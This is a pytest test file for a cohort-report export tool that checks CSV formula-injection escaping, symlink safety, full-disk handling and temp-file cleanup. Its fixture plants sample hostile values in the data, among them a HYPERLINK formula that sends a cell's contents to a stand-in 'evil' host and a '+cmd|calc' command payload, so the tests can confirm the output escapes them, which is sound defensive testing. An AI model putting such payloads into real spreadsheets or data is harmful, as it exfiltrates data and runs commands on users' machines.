"""Hostile text never becomes a CSV formula; bad output paths and a full disk get one line, exit 1,
and leave the previous files as they were (issue 16, points 1 and 7)."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import text

from cohort_service.export import files
from cohort_service.export.csv import inert
from tests.cohorts.conftest import ReportCli
from tests.cohorts.rows import Account


def _toml(milestones: dict[str, object], dimensions: dict[str, str]) -> str:
    """A report config in Moscow time over two weeks: milestone name → status, dimension → field."""
    lines = ['[report]\ntimezone = "Europe/Moscow"\nweeks = 2']
    lines += [
        f"[[report.milestones]]\nname = {json.dumps(n)}\nstatuses = [{json.dumps(st)}]"
        for n, st in milestones.items()
    ]
    lines += [
        f"[[report.dimensions]]\nname = {json.dumps(n)}\nfield = {json.dumps(f)}"
        for n, f in dimensions.items()
    ]
    return "\n\n".join(lines) + "\n"


CONFIG = _toml({"целевой": "Целевой", "оплачен": 142}, {"источник": "utm_source", "теги": "tags"})
HYPERLINK = '=HYPERLINK("http://evil/?x="&A1,"x")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(acct: Account) -> Account:
    """amoCRM text as an attacker would plant it: a manager, a loss reason, a stage, a field, a tag."""
    acct.conn.execute(text("UPDATE users SET name = :n WHERE id = 7"), {"n": HYPERLINK})
    acct.conn.execute(text("UPDATE loss_reasons SET name = '+cmd|calc' WHERE id = 31"))
    acct.conn.execute(text("UPDATE statuses SET name = E'\\tНовая' WHERE name = 'Новая'"))
    acct.lead(
        1, "2022-09-19 10:00", [("2022-09-20 10:00", "Целевой")], price=-5, source="-2+3", tags=["@SUM(1)"]
    )
    acct.lead(2, "2022-09-20 10:00", [("2022-09-21 10:00", "lost")], loss_reason=31, source="\rtab")
    return acct


def _rows(path: Path, delimiter: str = ";") -> list[dict[str, str]]:
    """A CSV file's rows; ``;`` by default: the config's Europe/Moscow makes ``auto`` excel-ru."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle, delimiter=delimiter))


def _is_number(cell: str, decimal: str) -> bool:
    try:
        float(cell.replace(decimal, "."))
    except ValueError:
        return False
    return True


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize("dialect", ["excel-ru", "plain"])
def test_no_csv_cell_of_amocrm_text_starts_a_formula(
    report_cli: ReportCli, tmp_path: Path, dialect: str
) -> None:
    separator, decimal = {"excel-ru": (";", ","), "plain": (",", ".")}[dialect]
    out = tmp_path / "csv"
    result = report_cli("--csv", str(out), "--csv-dialect", dialect)
    assert result.exit_code == 0, result.stderr
    assert f"CSV dialect {dialect} ('{separator}' between fields" in result.stdout
    leads = {row["lead_id"]: row for row in _rows(out / "leads.csv", separator)}
    assert leads["1"]["manager"] == "'" + HYPERLINK
    assert (leads["1"]["источник"], leads["1"]["теги"]) == ("'-2+3", "'@SUM(1)")
    assert leads["2"]["источник"] == "'\rtab"
    assert leads["2"]["loss reason"] == "'+cmd|calc"
    assert leads["1"]["price"] == f"-5{decimal}0"  # a number stays a number, sign and all
    assert {row["manager"] for row in _rows(out / "managers.csv", separator)} == {"'" + HYPERLINK}
    assert _rows(out / "cohorts.csv", separator)[0]["top loss reasons"] == "'+cmd|calc (1)"
    for path in out.glob("*.csv"):
        for row in _rows(path, separator):
            assert None not in row, (path.name, row)  # no row split into more fields than the header
            for name, cell in row.items():
                formula = cell.startswith(FORMULA_START) and not _is_number(cell, decimal)
                assert not formula, (path.name, name, cell)


def test_inert_only_touches_text() -> None:
    assert [inert(v) for v in ["=1+1", "+7 999", "-x", "@a", "\tx", "\rx", "a=b", "", 3, -2.5, None]] == [
        "'=1+1", "'+7 999", "'-x", "'@a", "'\tx", "'\rx", "a=b", "", 3, -2.5, None,
    ]  # fmt: skip


def _snapshot(directory: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(directory.iterdir()) if not p.is_symlink()}


@pytest.mark.usefixtures("hostile")
def test_bad_output_paths_get_one_line_and_exit_1(report_cli: ReportCli, tmp_path: Path) -> None:
    book = tmp_path / "book.xlsx"
    assert report_cli("--out", str(book)).exit_code == 0
    old = book.read_bytes()
    folder = tmp_path / "folder.xlsx"
    folder.mkdir()
    cases = [
        (("--out", str(folder)), f"error: the workbook {folder} is a directory: name a file"),
        (
            ("--out", str(book / "x.xlsx")),
            f"error: the workbook cannot go in {book}: it is a file, not a directory",
        ),
        (("--csv", str(book)), f"error: the CSV files cannot go in {book}: it is a file, not a directory"),
        (("--out", "/proc/cohorts.xlsx"), "error: the workbook could not be written to /proc/cohorts.xlsx ("),
    ]
    for args, line in cases:
        result = report_cli(*args)
        assert result.exit_code == 1, (args, result.stderr)
        assert result.stderr.strip().startswith(line), (args, result.stderr)
        assert len(result.stderr.strip().splitlines()) == 1
        assert "Traceback" not in result.stderr
    assert book.read_bytes() == old
    assert sorted(p.name for p in tmp_path.iterdir()) == ["book.xlsx", "config.toml", "folder.xlsx"]
    assert list(folder.iterdir()) == []


@pytest.mark.usefixtures("hostile")
def test_a_planted_symlink_is_replaced_not_followed(report_cli: ReportCli, tmp_path: Path) -> None:
    out = tmp_path / "csv"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    (out / "cohorts.csv").symlink_to(victim)
    (tmp_path / "book.xlsx").symlink_to(victim)
    result = report_cli("--csv", str(out), "--out", str(tmp_path / "book.xlsx"))
    assert result.exit_code == 0, result.stderr
    assert victim.read_text() == "keep me"
    assert not (out / "cohorts.csv").is_symlink()
    assert _rows(out / "cohorts.csv")[0]["cohort"] == "19.09–25.09.2022"
    assert not (tmp_path / "book.xlsx").is_symlink()


@pytest.mark.usefixtures("hostile")
def test_a_full_disk_keeps_the_old_files_and_leaves_nothing_partial(
    report_cli: ReportCli, config: Path, db_url: str, tmp_path: Path
) -> None:
    out = tmp_path / "csv"
    assert report_cli("--csv", str(out)).exit_code == 0
    before = _snapshot(out)
    # The file size limit makes every write past 400 bytes fail with EFBIG, as a full disk fails them.
    limit = "import resource; resource.setrlimit(resource.RLIMIT_FSIZE, (400, resource.RLIM_INFINITY))"
    script = (
        f"{limit}; import sys; from cohort_service.cli import main; sys.argv[0] = 'cohort-service'; main()"
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("COHORT_")} | {
        "COHORT_DATABASE_URL": db_url
    }
    args = ["--config", str(config), "report", "--as-of", "2022-09-26", "--csv", str(out)]
    done = subprocess.run(
        [sys.executable, "-c", script, *args], capture_output=True, text=True, env=env, check=False
    )
    assert done.returncode == 1, done.stderr
    assert done.stderr.strip().startswith(f"error: the CSV files could not be written to {out} ("), (
        done.stderr
    )
    assert "File too large" in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1
    assert _snapshot(out) == before


def _dead_pid() -> str:
    """The pid of a process that has exited."""
    code = "import os; print(os.getpid())"
    return subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    ).stdout.strip()


def test_partial_names_are_per_process_and_only_dead_writers_are_swept(tmp_path: Path) -> None:
    target = tmp_path / "cohorts.xlsx"
    first, second = files.partial_path(target), files.partial_path(target)
    assert first != second
    assert f".{os.getpid()}-" in first.name
    dead = _dead_pid()
    stale = tmp_path / f"cohorts.xlsx.{dead}-0badc0de.partial"
    live = first
    for path in (stale, live, tmp_path / "other.txt"):
        path.write_text("x")
    files.sweep_partials(tmp_path, {"cohorts.xlsx"})
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([live.name, "other.txt"])


def test_a_crashed_run_s_temp_files_are_removed_by_the_next(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    monkeypatch.setattr(files, "_run_dirs", {})
    dead = _dead_pid()
    base = tmp_path / f"cohort-service-{os.getuid()}"
    base.mkdir(mode=0o700)
    (base / f"run-{dead}-0badc0de").mkdir()
    (base / f"run-{dead}-0badc0de" / "history-x.csv").write_text("personal data")
    mine = files.private_tmpdir()
    assert mine.parent == base
    assert mine.name.startswith(f"run-{os.getpid()}-")
    assert [p.name for p in base.iterdir()] == [mine.name]
    assert oct(base.stat().st_mode & 0o777) == "0o700"


WON_CONFIG = _toml({"Status": "Целевой", "Won": 142}, {"Manager": "utm_source"})


def test_a_milestone_or_dimension_may_share_a_fixed_column_s_name(
    acct: Account, report_cli: ReportCli, config: Path, tmp_path: Path
) -> None:
    """A final milestone named Won, a milestone Status, a dimension Manager: the user's names stay
    exact; the fixed Leads columns they match ignoring case step aside; the pivot still builds."""
    from openpyxl import load_workbook

    acct.lead(
        1, "2022-09-19 10:00", [("2022-09-20 10:00", "Целевой"), ("2022-09-21 10:00", "won")], source="ya"
    )
    acct.lead(2, "2022-09-20 10:00", [("2022-09-21 10:00", "lost")], user=8)
    config.write_text(WON_CONFIG, encoding="utf-8")
    book, out = tmp_path / "book.xlsx", tmp_path / "csv"
    result = report_cli("--out", str(book), "--csv", str(out))
    assert result.exit_code == 0, result.stderr
    wb = load_workbook(book, read_only=True)
    try:
        rows = [list(r) for r in wb["Leads"].iter_rows(values_only=True)]
    finally:
        wb.close()  # a read-only workbook holds the file open until closed
    header = rows[0]
    assert header[:10] == ["lead_id", "cohort_week", "created_at", "pipeline", "status (report)",
                           "status pipeline", "manager (report)", "Manager", "Status",
                           "Status at"]  # fmt: skip
    assert header[10:14] == ["Won", "Won at", "won (report)", "lost"]
    first = dict(zip(header, rows[1], strict=True))
    assert (first["Won"], first["won (report)"], first["Manager"], first["manager (report)"]) == (
        1,
        1,
        "ya",
        "Анна",
    )
    leads = _rows(out / "leads.csv")
    assert [r["Won"] for r in leads] == ["1", "0"]
    assert [r["status (report)"] for r in leads] == ["Успешно реализовано", "Закрыто и не реализовано"]
    cohorts = _rows(out / "cohorts.csv")[0]
    assert (cohorts["Won"], cohorts["won"], cohorts["lost"]) == ("1", "1", "1")
